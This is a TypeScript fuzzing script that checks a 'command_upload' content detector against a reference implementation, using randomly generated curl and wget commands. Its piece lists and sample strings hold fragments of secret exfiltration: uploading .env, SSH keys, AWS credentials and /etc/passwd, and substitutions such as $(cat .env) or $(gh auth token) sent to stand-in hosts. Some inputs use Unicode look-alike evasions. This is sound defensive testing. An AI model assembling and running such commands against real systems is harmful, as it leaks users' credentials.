/**
 * A one-off differential fuzz of `command_upload`'s curl/wget reader and witnesses (ADR-124)
 * against the reference alternation: generated and mutated commands, alone, inside floods of
 * near misses (the witness path) and placed around the 64 KiB chunk edges.
 *
 *   deno run --allow-read scripts/fuzz_upload_reader.ts [seed] [cases]
 */
import { assessContent } from "../src/content/assess.ts";
import { referenceAssess } from "../tests/helpers/assess_reference.ts";
import { mulberry32 } from "../tests/helpers/random.ts";

const seed = Number(Deno.args[0] ?? 1);
const cases = Number(Deno.args[1] ?? 2000);
const next = mulberry32(seed);
const pick = <T>(xs: readonly T[]) => xs[Math.floor(next() * xs.length)];
const int = (n: number) => Math.floor(next() * n);

// deno-fmt-ignore
const PIECES = [
  "curl", "wget", "nc", "ncat", "iwr", "irm", "invoke-webrequest", "Invoke-RestMethod",
  "curl.exe", "-d", "-F", "-T", "-t", "-H", "-X", "POST", "-sSf", "-fd", "-abcd", "-abct",
  "-abcdt", "-xT", "--data", "--data-binary", "--data-urlencode", "--json", "--form",
  "--form-string", "--upload-file", "--post-file", "--body-file", "--post-data", "--body-data",
  "-infile", "-InFile", "-body", "-Body", "x", "a=@b", "@.env", "@b", "<.env", "<", "< ", "<   ",
  "~/.ssh/id_rsa", ".npmrc", "secret", "secrets", "SECRET", "credentials", "kubeconfig",
  "id_rsa.pub", "id_ed25519", '"', "'", "$(date)", "$(cat .env)", "$(ls)", "`env`", "`whoami`",
  "$(gh auth  token)", "$(aws get-secret-value)", "$TOKEN", "$GITHUB_TOKEN", "${NPM_TOKEN}",
  "$env:NPM_TOKEN", "${env:API_KEY}", "${{", "${{ secrets.X }}", "secrets.X", "}}", "$HOME",
  "$PASSWD", "$x_key", "https://a", "http://b/?q=", "ftp://c", "ftps://d/", "HTTPS://E/",
  '"https://e/?', "'http://f/", "=", "|", ";", "\\", "\\\n", "\\\r\n", "\\\r", "\n", "\r\n",
  "\r", "\v", "\f", "curl@.env", "-dx@.env", "-T.env", "-Tsecret", "k=$(whoami)", "/etc/passwd",
  "/proc/self/environ", ".git-credentials", ".aws/credentials", "~/.aws/credentials",
  ".env.local", ".envx", "x.pem", "w".repeat(120), "w".repeat(199), "w".repeat(200),
  "w".repeat(201), "a".repeat(95), '\\"', '{\\"a\\":\\"', "@", "<<", "@-", "`", "$(", ")", "(",
  "$", "${", "}", "-", "--", "-d=", "--data=", "-T=", "wget", "WGET", "Curl",
];
const SEPARATORS = [
  " ",
  " ",
  " ",
  "  ",
  "\t",
  "",
  " ".repeat(23),
  " ".repeat(24),
  " ".repeat(25),
  "\\\n",
  " \\\n ",
  "\\\r\n",
];
const ALPHABET = [..." \t\n\r\\\"'@<$`(){}|;=-_./~:", "a", "d", "t", "e", "n", "v", "x"];

const FLOOD = "curl -d x https://a curl -F a=@b ".repeat(40);
const FLOOD2 =
  'curl -d x https://a curl -F a=@b curl -T c -d "$(date)" https://b/?q=$(ls) -H "x: $TOKEN" '
    .repeat(20);
const LINE = "curl -d x https://a curl -F a=@b ";

/** A piece whose length lies near one of the pattern's bounds. */
function sized(): string {
  const near = (b: number) => Math.max(0, b - 3 + int(7));
  const escapes = (n: number) =>
    Array.from({ length: n }, () => pick(['\\"', "\\x", "a", " ", "\\\\"])).join("");
  switch (int(12)) {
    case 0:
      return '-d "' + escapes(near(200)) + pick(["$(env)", "@.env", "$TOKEN", "`id`"]) + '"';
    case 1:
      return "-d '" + "x".repeat(near(200)) + pick(["$(env)", "@.env", "$TOKEN"]) + "'";
    case 2:
      return "-d " + "x".repeat(near(100)) + pick(["$(env)", "@.env", "$TOKEN"]);
    case 3:
      return "$(" + "x".repeat(near(100)) +
        pick(["env", ".env", "whoami", "auth token", "secret"]) + ")";
    case 4:
      return "$" + "x".repeat(near(40)) + pick(["token", "secret", "api_key", "passwd"]);
    case 5:
      return "https://e/" + "x".repeat(near(295)) + pick(["$TOKEN", "$(env)", "`env`"]);
    case 6:
      return "@" + "x".repeat(near(100)) + pick([".env", "/secret", "_rsa"]);
    case 7:
      return "w".repeat(near(200));
    case 8:
      return pick(["@", "<", "-T ", "-d @"]) + "abcdefgh".slice(0, 3 + int(5));
    case 9:
      return pick(SEPARATORS).repeat(1 + int(3)) + pick(["\\\n", "\\\r\n"]).repeat(near(24));
    case 10:
      return "$(" + "x".repeat(near(117)) + pick(["env", "secret", ".", "$"]);
    default:
      return " ".repeat(near(24)) + pick(PIECES);
  }
}
function command(): string {
  let c = pick(["curl", "wget", "curl", "CURL", "wget"]);
  const n = 1 + int(next() < 0.2 ? 18 : 14);
  for (let k = 0; k < n; k++) c += pick(SEPARATORS) + (next() < 0.25 ? sized() : pick(PIECES));
  return c;
}
function mutate(s: string): string {
  const n = 1 + int(4);
  for (let k = 0; k < n; k++) {
    const at = int(s.length + 1);
    const r = int(3);
    if (r === 0) s = s.slice(0, at) + pick(ALPHABET) + s.slice(at);
    else if (r === 1) s = s.slice(0, at) + s.slice(at + 1);
    else s = s.slice(0, at) + pick(ALPHABET) + s.slice(at + 1);
  }
  return s;
}

/** Some characters as look-alikes the fold maps back (full-width, NBSP, ideographic space, confusables, invisibles). */
const LOOK = {
  c: ["с", "ϲ"],
  e: ["е"],
  a: ["а"],
  o: ["о"],
  p: ["р"],
  x: ["х"],
  i: ["і"],
  s: ["ѕ"],
  " ": ["\u00a0", "\u3000", "\u2002"],
  "": ["\u200b", "\u00ad", "\u2060"],
} as Record<string, string[]>;
function unicodeize(s: string): string {
  let out = "";
  for (const ch of s) {
    const r = next();
    const code = ch.charCodeAt(0);
    if (r < 0.08 && code > 0x20 && code < 0x7f) out += String.fromCharCode(code + 0xfee0);
    else if (r < 0.12 && LOOK[ch]) out += pick(LOOK[ch]);
    else if (r < 0.14) out += pick(LOOK[""]) + ch;
    else out += ch;
  }
  return out;
}
type Part = { text: string; numbered?: boolean };
const asParts = (text: string | Part[]): Part[] => typeof text === "string" ? [{ text }] : text;
const key = (text: string | Part[]) => JSON.stringify(assessContent(asParts(text)));
const ref = (text: string | Part[]) => JSON.stringify(referenceAssess(asParts(text)));
/** `text` as read_file shows it: `N\t` before each line. */
const numbered = (text: string) =>
  text.split("\n").map((l, i) => `${String(i + 1).padStart(6)}\t${l}`).join("\n");
let compared = 0, matched = 0, differ = 0;
const corpus: string[] = [];
function check(text: string | Part[], what: string) {
  compared++;
  const a = key(text), b = ref(text);
  if (b.includes('"command_upload"')) matched++;
  if (a !== b) {
    differ++;
    if (differ <= 10) {
      console.log(
        `DIFF seed ${seed} ${what}: ${
          JSON.stringify(text.length > 400 ? text.slice(0, 400) : text)
        }`,
      );
      console.log("  server:", a.slice(0, 300));
      console.log("  ref:   ", b.slice(0, 300));
    }
  }
}
const t0 = performance.now();
for (let n = 0; n < cases; n++) {
  const c = corpus.length > 20 && next() < 0.5 ? mutate(pick(corpus)) : command();
  if (next() < 0.15) {
    const u = unicodeize(c);
    check(u, `#${n} unicode`);
    check(FLOOD + u + " " + FLOOD, `#${n} unicode flood`);
  }
  if (corpus.length < 500) corpus.push(c);
  else corpus[int(500)] = c;
  check(c, `#${n} alone`);
  check(FLOOD + c + " " + FLOOD, `#${n} flood`);
  check(FLOOD + "\n" + c + "\n" + FLOOD, `#${n} flood line`);
  check(FLOOD + c + " " + FLOOD2 + c, `#${n} flood2`);
  if (n % 4 === 0) {
    // Several parts (the state is per part) and numbered text (read_file's prefixes).
    check([{ text: FLOOD }, { text: c + " " + FLOOD }], `#${n} second part`);
    check([{ text: FLOOD + c }, { text: FLOOD2 }], `#${n} first part`);
    check([{ text: numbered(FLOOD + "\n" + c + "\n" + FLOOD), numbered: true }], `#${n} numbered`);
  }
  if (n % 50 === 0) {
    // Around a chunk's end: the command's start at 65,536 + shift.
    const shift = int(10_000) - 5_000;
    const at = 65_536 + shift;
    const head = LINE.repeat(Math.floor(at / LINE.length));
    check(head + " ".repeat(at - head.length) + c + " " + LINE.repeat(20), `#${n} edge ${shift}`);
  }
}
console.log(
  `seed ${seed}: ${compared} texts compared, ${matched} with command_upload, ${differ} differ, ${
    ((performance.now() - t0) / 1000).toFixed(1)
  } s`,
);
